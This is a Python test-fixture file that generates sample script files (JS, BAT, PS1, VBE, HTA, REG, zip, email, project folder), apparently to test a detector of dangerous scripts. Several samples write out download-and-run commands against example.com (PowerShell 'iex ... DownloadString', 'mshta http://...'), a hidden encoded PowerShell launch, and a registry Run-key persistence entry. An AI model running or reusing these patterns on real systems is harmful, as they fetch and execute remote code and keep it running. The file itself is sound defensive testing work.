"""Scripts that came as a file, and honest ones where they belong."""
from _letters import letter
from _tricks import folder, trick, zipped

# "CreateObject(...).Run ..." and a request, as the Windows Script Encoder writes them.
ENCODED = '#@~^AAAAAA==/M+CD+}4L\x7fmDcJq?^DbwO Ut+^sJ*RI!U~J1:9P&m~n1tGP4nV^W~@!m@*JS~Z@&/D\x7fCD+6(L\x7fmYvJtj(tS+RoHJu:KnrbR}w+n~EMAKr~~J4ODwd)J&+Xlh2^+R^Gsz@$6r@&AAAAAA==^#~@'


@trick("script-js", "Invoice.js", "file.script")
def js():
    return b"var greeting = 'hello';\n"


@trick("script-js-runs", "Invoice.js", "file.script/runs")
def js_runs():
    return (b"var s = new ActiveXObject('WSc' + 'ript.Shell'); var h = new ActiveXObject('MSXML2.XMLH' + 'TTP');\n"
            b"h.open('GET', 'https://example.com/'); s.run('cmd /c echo hello');\n")


@trick("script-hidden-window", "run.bat", "file.script/runs")
def hidden_window():
    return b"@echo off\r\np^ower^shell -w hidden -enc ZQBjAGgAbwAgAGgAZQBsAGwAbwA=\r\n"


@trick("script-wide", "run.ps1", "file.script/runs")
def wide():
    return "iex (New-Object Net.WebClient).DownloadString('https://example.com/')\r\n".encode("utf-16")


@trick("script-encoded", "Invoice.vbe", "file.script/runs")
def encoded():
    return ENCODED.encode()


@trick("script-hta", "CV.hta", "file.script/runs")
def hta():
    return (b"<html><head><HTA:APPLICATION WINDOWSTATE='minimize'/><script language='VBScript'>\r\n"
            b'CreateObject("WScript.Shell").Run "mshta http://example.com/x"\r\n</script></head></html>')


@trick("script-reg", "fix.reg", "file.script/runs")
def reg():
    return (b"Windows Registry Editor Version 5.00\r\n\r\n"
            b"[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"cmd /c echo hello\"\r\n")


@trick("script-in-zip", "papers.zip", "file.script")
def in_zip():
    return zipped([("papers/CV.vbs", b'MsgBox "hello"\r\n'), ("papers/read me.txt", b"Hello.\n")])


@trick("script-in-letter", "letter.eml", "file.script")
def in_letter():
    return letter("CV.wsf", b"<job><script language='JScript'>var a = 1;</script></job>")


@trick("script-in-project", "project")
def in_project():
    return folder([("src/index.js", b"module.exports = 1;\n"), ("build.bat", b"@echo off\r\nnpm run build\r\n"),
                   ("package.json", b"{}\n")])


@trick("script-in-project-runs", "project", "file.script/inside")
def in_project_runs():
    return folder([("src/index.js", b"module.exports = 1;\n"), ("package.json", b"{}\n"),
                   ("tools/setup.bat", hidden_window())])
